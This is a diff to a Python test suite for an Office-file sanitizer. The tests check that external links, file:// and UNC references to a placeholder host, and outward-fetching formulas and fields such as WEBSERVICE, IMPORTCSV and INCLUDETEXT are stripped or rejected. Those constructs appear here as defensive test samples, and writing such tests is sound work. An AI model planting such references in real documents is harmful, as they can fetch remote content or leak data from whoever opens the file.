-@pytest.mark.parametrize("what", LEFT_OUT)
+@pytest.mark.parametrize("what", REMOVED_CONTENT)
 def test_what_a_file_reaches_for_is_left_out_of_the_copy(what):
-    sent, extension = LEFT_OUT[what], ".xlsx" if b"xl/workbook.xml" in LEFT_OUT[what] else ".docx"
+    sent, extension = REMOVED_CONTENT[what], ".xlsx" if b"xl/workbook.xml" in REMOVED_CONTENT[what] else ".docx"
     with zipfile.ZipFile(io.BytesIO(sent)) as archive:
-        assert any(MARK.encode() in archive.read(name) for name in archive.namelist())
+        assert any(HOST.encode() in archive.read(name) for name in archive.namelist())
 
     copy = sanitize_file(sent, extension).content
 
-    assert MARK not in content_of(copy)
+    assert HOST not in readable_content(copy)
     assert sanitize_file(copy, extension).media_type
 
 
 def test_a_refused_formula_is_named_with_its_place():
     with pytest.raises(FileRejected, match=r"“IMPORTCSV” in cell B4\. It is on the sheet “One”\. Replace the"):
-        sanitize_file(formula('SUM(1)+IMPORTCSV("a")'), ".xlsx")
+        sanitize_file(workbook_with_formula('SUM(1)+IMPORTCSV("a")'), ".xlsx")
     with pytest.raises(FileRejected, match="“WEBSERVICE” in the name “a”"):
         sanitize_file(excel(names='<definedName name="a">WEBSERVICE("a")</definedName>'), ".xlsx")
 
 
 def test_a_refused_field_is_named_and_told_how_to_become_text():
     with pytest.raises(FileRejected, match=r"the file: “INCLUDETEXT a”. In Word press Ctrl\+A, then Ctrl\+Shift\+F9"):
-        sanitize_file(field(" INCLUDETEXT  a "), ".docx")
+        sanitize_file(word_with_field(" INCLUDETEXT  a "), ".docx")
 
 
 # What honest files are made of.
@@ -467,8 +481,10 @@ FIELDS = [
 
 @pytest.mark.parametrize("code", FIELDS)
 def test_field_of_an_honest_document_stays(code):
-    assert code.strip() in content_of(sanitize_file(field(code), ".docx").content)
-    assert code.strip() in content_of(sanitize_file(word(f"<w:fldSimple w:instr={quoteattr(code)}/>"), ".docx").content)
+    assert code.strip() in readable_content(sanitize_file(word_with_field(code), ".docx").content)
+    assert code.strip() in readable_content(
+        sanitize_file(word_with_body(f"<w:fldSimple w:instr={quoteattr(code)}/>"), ".docx").content
+    )
 
 
 FORMULAS = [
@@ -505,7 +521,7 @@ FORMULAS = [
 
 @pytest.mark.parametrize("text", FORMULAS)
 def test_formula_of_an_honest_workbook_stays(text):
-    assert text in content_of(sanitize_file(formula(text), ".xlsx").content)
+    assert text in readable_content(sanitize_file(workbook_with_formula(text), ".xlsx").content)
 
 
 # --- By chance --------------------------------------------------------------------------------------------------------
@@ -595,10 +611,10 @@ ATTRIBUTES = [
     "w:docLocation",
     "connectString",
 ]
-OUTSIDE = [
-    ("External", f"https://{MARK}/"),
+EXTERNAL_TARGETS = [
+    ("External", f"https://{HOST}/"),
     ("External", SHARE),
-    ("Internal", f"//{MARK}/a"),
+    ("Internal", f"//{HOST}/a"),
     ("Internal", "media/a.png"),
 ]
 KINDS = [
@@ -623,21 +639,21 @@ KINDS = [
 ]
 
 
-def by_chance(chance):
+def random_document(chance):
     """A document with elements, attributes and relations of all sorts in all places."""
     inside = ""
     for _ in range(chance.randrange(1, 6)):
-        prefix = chance.choice([*SPACES, "n"])
-        values = ["r0", "r1", "r2", "1", f"file://{MARK}/a"]
+        prefix = chance.choice([*NAMESPACES, "n"])
+        values = ["r0", "r1", "r2", "1", f"file://{HOST}/a"]
         said = "".join(f' {name}="{chance.choice(values)}"' for name in chance.sample(ATTRIBUTES, 2))
         inner = chance.choice(["", "<w:r><w:t>words</w:t></w:r>", inside])
         name = f"{prefix}:{chance.choice(NAMES)}"
         inside = f"{inside if inner != inside else ''}<{name}{said} xmlns:n='n'>{inner}</{name}>"
     rows = []
     for _ in range(chance.randrange(0, 3)):
-        mode, target = chance.choice(OUTSIDE)
+        mode, target = chance.choice(EXTERNAL_TARGETS)
         rows.append((chance.choice(KINDS), target, mode))
-    return word(f'{inside}<n:a xmlns:n="n"/>', *rows, **{"word/media/a.png": samples.PNG})
+    return word_with_body(f'{inside}<n:a xmlns:n="n"/>', *rows, **{"word/media/a.png": sample_files.PNG})
 
 
 @pytest.mark.parametrize("number", range(4))
@@ -646,15 +662,15 @@ def test_files_put_together_by_chance_keep_nothing_but_what_is_known(number):
     kept = 0
     for _ in range(FILES // 4):
         try:
-            copy = sanitize_file(by_chance(chance), ".docx").content
+            copy = sanitize_file(random_document(chance), ".docx").content
         except FileRejected:
             continue
         kept += 1
-        assert_is_known(copy)
+        assert_only_known_parts(copy)
     assert kept > FILES // 40
 
 
-def assert_is_known(copy):
+def assert_only_known_parts(copy):
     """Hold each part, element, attribute and relation of a copy to what may be there, by another reader of XML."""
     with zipfile.ZipFile(io.BytesIO(copy)) as archive:
         parts = {name: archive.read(name) for name in archive.namelist()}
